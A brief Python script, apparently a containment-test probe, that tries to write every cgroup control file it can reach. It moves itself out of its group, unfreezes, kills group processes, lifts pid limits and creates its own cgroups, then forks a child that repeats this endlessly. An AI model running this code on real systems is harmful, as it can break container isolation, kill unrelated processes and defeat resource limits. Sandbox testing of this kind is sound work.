"""Writes to every file of every cgroup tree: moves itself out, unfreezes, makes its own."""

from __future__ import annotations

import glob
import os
import time

acts = os.open("acts", os.O_WRONLY | os.O_APPEND)
roots = [line.split()[4] for line in open("/proc/self/mountinfo") if " - cgroup" in line]
got_in = []


def attack() -> None:
    for root in roots:
        for folder in [root, *glob.glob(f"{root}/*/"), *glob.glob(f"{root}/*/*/")]:
            for name, value in (
                ("cgroup.procs", "0"),
                ("tasks", "0"),
                ("cgroup.freeze", "0"),
                ("cgroup.kill", "1"),
                ("cgroup.threads", "0"),
                ("cgroup.type", "threaded"),
                ("pids.max", "max"),
                ("notify_on_release", "1"),
            ):
                try:
                    with open(os.path.join(folder, name), "w") as file:
                        file.write(value)
                    got_in.append(os.path.join(folder, name))
                except OSError:
                    pass
            try:
                os.mkdir(os.path.join(folder, "mine"))
                got_in.append(os.path.join(folder, "mine"))
            except OSError:
                pass


attack()
print("GOT IN:", got_in, flush=True)
if os.fork() == 0:
    while True:
        attack()
while True:
    os.write(acts, b".")
    time.sleep(0.0005)
